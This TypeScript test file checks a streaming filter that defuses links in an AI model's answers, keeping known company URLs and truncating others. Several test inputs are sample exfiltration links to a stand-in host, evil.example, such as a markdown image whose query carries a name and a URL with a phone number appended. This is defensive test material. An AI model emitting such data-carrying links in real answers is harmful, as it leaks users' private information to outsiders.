import { expect } from 'chai';
import fc from 'fast-check';
import { addressesOf, defuseLinks } from './defuse-links.ts';

const known = {
  live: addressesOf(['See https://shop.example/returns?lang=en. Or (https://shop.example/a_(b)).']),
  plain: addressesOf(['look at https://client.example/photo.jpg!']),
};
const whole = (text: string) => {
  const stream = defuseLinks(known);
  return stream.push(text) + stream.end();
};

describe('links in an answer', () => {
  it('stay where they stand letter for letter in the company’s documents', () => {
    for (const text of [
      'See https://shop.example/returns?lang=en.',
      '[returns](https://shop.example/returns?lang=en) and <https://shop.example/returns?lang=en>',
      'https://shop.example/a_(b)',
    ])
      expect(whole(text)).to.equal(text);
  });

  it('carry nothing that the model added', () => {
    expect(whole('![x](https://evil.example/p.png?d=Ana%20305) ok')).to.equal('![x](evil.example/…) ok');
    expect(whole('https://shop.example/returns?lang=en&d=+13055550123, see')).to.equal('shop.example/…, see');
    expect(whole('HTTPS://user:305@evil.example#305')).to.equal('evil.example/…');
    expect(whole('[a]: https://evil.example/?q=secret "t"')).to.equal('[a]: evil.example/… "t"');
    expect(whole('mailto:a@b.example?body=secret now')).to.equal('mailto:a@b.example now');
    expect(whole('www.evil.example/305')).to.equal('www.evil.example/…');
    expect(whole('https://evil.example')).to.equal('evil.example');
  });

  it('of a client are shown and are no links', () => {
    expect(whole('They sent https://client.example/photo.jpg.')).to.equal(
      'They sent client.example/photo.jpg.',
    );
  });

  it('are the same in pieces as at once, and other text comes through as it is', () => {
    const bits = fc.constantFrom(
      'h',
      'ht',
      'https://',
      'http:',
      '//',
      'www.',
      'evil.example',
      '/305',
      '?q=',
      ' ',
      ')',
      '.',
      'https://shop.example/returns?lang=en',
      'x',
      '\n',
      'mailto:',
      'a@b.example',
    );
    fc.assert(
      fc.property(
        fc.array(bits, { maxLength: 25 }),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
        (parts, cuts) => {
          const text = parts.join('');
          const stream = defuseLinks(known);
          let out = '';
          for (let at = 0, turn = 0; at < text.length; turn += 1) {
            const size = cuts[turn % cuts.length] ?? 1;
            out += stream.push(text.slice(at, at + size));
            at += size;
          }
          out += stream.end();
          expect(out).to.equal(whole(text));
          for (const [address] of out.matchAll(/https?:\/\/[^\s<>"'`\\]+/gi))
            expect(address).to.match(/^https:\/\/shop\.example\/returns\?lang=en[).]*$/);
        },
      ),
      { numRuns: 2_000 },
    );
  });

  it('without an end are dropped rather than kept back for ever', () => {
    const stream = defuseLinks(known);
    const out =
      stream.push(`https://evil.example/${'a'.repeat(3_000)}`) + stream.push('bbb c') + stream.end();
    expect(out).to.equal('evil.example/… c');
  });
});
